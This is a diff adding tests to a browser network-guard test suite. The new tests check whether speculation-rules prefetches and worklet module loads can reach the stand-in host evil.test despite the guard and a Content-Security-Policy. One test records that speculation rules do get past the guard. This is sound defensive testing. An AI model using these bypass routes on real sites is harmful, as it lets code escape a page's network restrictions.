@@ -27,6 +27,8 @@ before(async () => {
   stage.pages.set("/enforce", { body: guarded(text) });
   const wall = /** @type {{ name: string, value: string }} */ (contentSecurityPolicy(text));
   stage.pages.set("/walled", { body: guarded(text), headers: { [wall.name]: wall.value } });
+  const scripts = "script-src 'self' 'nonce-app' 'unsafe-eval'";
+  stage.pages.set("/scripts", { body: guarded(text).replace("<script", '<script nonce="app"'), headers: { [wall.name]: `${wall.value}; ${scripts}` } });
   stage.pages.set("/report", { body: guarded(policy({ ...LISTS, mode: "report" })) });
   stage.pages.set("/off", { body: guarded(policy({ ...LISTS, mode: "off" })) });
   stage.pages.set("/workers", { body: guarded(text, `{ workers: [location.origin, "blob:"] }`) });
@@ -135,6 +137,15 @@ denied("workers of the app's own origin, and service workers, have to be let in:
   const shared = await heardOf(new SharedWorker("/worker.js")), own = await heardOf(new Worker("/worker.js"));
   return [own, shared, await navigator.serviceWorker.register("/worker.js").then(() => "passed", (error) => [error.name, error.permission.code])];`,
   [[["error"], "not_https"], [["error"], "not_https"], ["TypeError", "not_https"]]);
+test("speculation rules get past the guard and its header, and not past a `script-src` of the host", async () => {
+  const rules = `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["https://evil.test/page/rules"] }] });
+    document.head.append(s); await wait(800);`;
+  assert.deepEqual([(await inPage("walled", rules)).evil.length > 0, (await inPage("scripts", rules)).evil], [true, []]);
+});
+denied("worklets get their modules from where the app may call", `
+  const say = (promise) => promise.then(() => "passed", (error) => [error.name, error.permission?.code]);
+  return [await say(CSS.paintWorklet.addModule(EVIL)), await say(new AudioContext().audioWorklet.addModule(EVIL)), await say(CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))))];`,
+  [["AbortError", "host_not_listed"], ["AbortError", "host_not_listed"], "passed"]);
 test("a worker of the app's own origin comes where the host lets it, and is a network of its own", async () => {
   const { value, evil } = await inPage("workers", `const worker = new Worker("/worker.js"); return new Promise((done) => { worker.onmessage = () => done("came"); worker.onerror = () => done("failed"); });`);
   assert.deepEqual([value, evil.length], ["came", 1]);
